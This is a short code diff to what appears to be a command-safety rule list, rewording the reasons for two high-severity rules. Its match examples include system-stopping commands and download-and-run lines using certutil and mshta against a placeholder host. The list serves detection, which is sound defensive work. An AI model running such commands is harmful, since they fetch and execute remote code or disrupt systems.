@@ -57,7 +57,7 @@ export const systemRules: readonly Rule[] = [
       }
     },
     severity: 'high',
-    reason: 'stops, opens up or changes the system',
+    reason: 'stops, exposes or changes the system',
     match: [
       'Stop-Computer -Force',
       'sc delete MyService',
@@ -88,7 +88,7 @@ export const systemRules: readonly Rule[] = [
       return /https?:|\/transfer|javascript:|vbscript:/i.test(words)
     },
     severity: 'high',
-    reason: 'brings a foreign program onto the machine, or runs it',
+    reason: 'downloads a program from elsewhere, or runs it',
     match: [
       'certutil -urlcache -f http://x/a.exe a.exe',
       'mshta http://x/a.hta',
